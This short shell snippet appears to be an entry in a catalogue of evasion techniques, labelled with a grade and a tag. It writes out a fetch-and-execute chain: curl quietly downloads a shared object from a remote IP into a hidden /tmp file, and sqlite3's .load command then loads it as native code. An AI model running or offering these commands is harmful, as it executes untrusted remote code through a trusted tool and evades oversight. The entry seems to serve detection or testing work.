# evasion: sqlite3's .load dot-command dlopens a downloaded shared object
# grade: medium; does: native
curl -so /tmp/.cache-fts.so http://198.51.100.40/fts.so
sqlite3 :memory: '.load /tmp/.cache-fts'
